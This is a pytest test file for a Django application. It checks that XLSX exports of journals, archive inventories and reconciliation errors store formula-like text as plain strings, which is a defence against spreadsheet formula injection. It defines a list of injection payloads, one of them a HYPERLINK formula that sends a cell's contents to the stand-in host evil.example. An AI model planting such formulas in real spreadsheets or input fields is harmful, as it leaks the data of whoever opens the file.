"""Issue 14, item 5: a text that looks like a formula stays text in every XLSX the site gives out."""

import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from archive.models import ArchivedFile, Inventory
from onewindow.xlsx import xlsx_bytes
from reconciliation.models import ReconciliationRun
from tests.archive.helpers import form_data
from tests.factories import ApplicantFactory, ApplicationFactory
from tests.reconciliation.files import HEADER, write_csv

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Подробнее")'
INJECTIONS = [LINK, "+7(900)1234567", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A", "=1"]


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text(content: bytes, text: str):
    found = [cell for cell in cells(content) if cell.value == text]
    assert found, f"«{text}» is not in the workbook as it was"
    for cell in found:
        assert cell.data_type == "s"


@pytest.mark.parametrize("text", INJECTIONS)
def test_writer_keeps_formula_like_text_as_text(text):
    content = xlsx_bytes("Лист", [[text, 42, 1.5, datetime.date(2026, 11, 24)]], columns=["a"] * 4)
    row = [cell for cell in load_workbook(io.BytesIO(content)).active[2]]
    # the file holds the text as given: with lxml (a dependency since the XML extracts are read
    # by it) openpyxl writes a carriage return as «&#13;», read back as it is; without lxml it
    # writes it bare, and an XML parser reads a bare carriage return as a line feed
    from openpyxl.xml import LXML

    read_back = text if LXML else text.replace("\r", "\n")
    assert row[0].value == read_back and row[0].data_type == "s"
    assert row[0].quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (row[1].value, row[1].data_type) == (42, "n")
    assert (row[2].value, row[2].data_type) == (1.5, "n")
    assert row[3].data_type == "d" and row[3].value.date() == datetime.date(2026, 11, 24)
    assert row[3].number_format == "DD.MM.YYYY"


def test_writer_drops_characters_a_workbook_cannot_hold():
    content = xlsx_bytes("Лист", [["Ива\x01нов"]])
    assert [cell.value for cell in cells(content)] == ["Иванов"]


def test_journal_surname_formula_is_text(client, specialist, office, catalogue):
    person = ApplicantFactory(office=office, snils="11223344595", last_name=LINK)
    client.force_login(specialist)
    ApplicationFactory(actor=specialist, applicant=person)
    day = timezone.localdate()
    response = client.get(
        reverse("cases:journal"),
        {"date_from": (day - datetime.timedelta(days=7)).isoformat(),
         "date_to": (day + datetime.timedelta(days=7)).isoformat(), "format": "xlsx"},
    )  # fmt: skip
    assert_text(response.content, f"{LINK} Иван Иванович")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=4))
    assert rows[0][1].data_type == "d" and rows[0][3].data_type == "d"
    assert rows[0][1].number_format == "DD.MM.YYYY"


def test_inventory_free_text_index_and_title_are_text(client, archivist, closed_file, box):
    client.force_login(archivist)
    client.post(reverse("archive:register"), form_data(closed_file, box))
    ArchivedFile.objects.update(nomenclature_index="@SUM(A1:A9)", title=LINK)
    client.post(reverse("archive:inventory"), {"year": "2020", "group": "short"})
    inventory = Inventory.objects.get()
    response = client.get(reverse("archive:inventory_xlsx", args=[inventory.pk]))
    assert_text(response.content, "@SUM(A1:A9)")
    assert_text(response.content, LINK)
    assert [c.value for c in cells(response.content) if c.data_type == "n"] == [1, 48]


def test_reconciliation_invalid_rows_are_text(client, specialist, recipients, tmp_path):
    rows = [["", LINK, "Иван", "", "31.02.1950", ""]]
    path = write_csv(tmp_path / "bad.csv", HEADER, rows)
    call_command("reconcile", str(path), "--source", "czn", "--kind", "employment",
                 stdout=io.StringIO())  # fmt: skip
    ReconciliationRun.objects.update(office=specialist.office)
    run = ReconciliationRun.objects.get()
    client.force_login(specialist)
    response = client.get(reverse("reconciliation:run_errors", args=[run.pk]))
    assert response.status_code == 200
    data = [c for c in cells(response.content) if isinstance(c.value, str) and LINK in c.value]
    assert data and all(c.data_type == "s" for c in data)
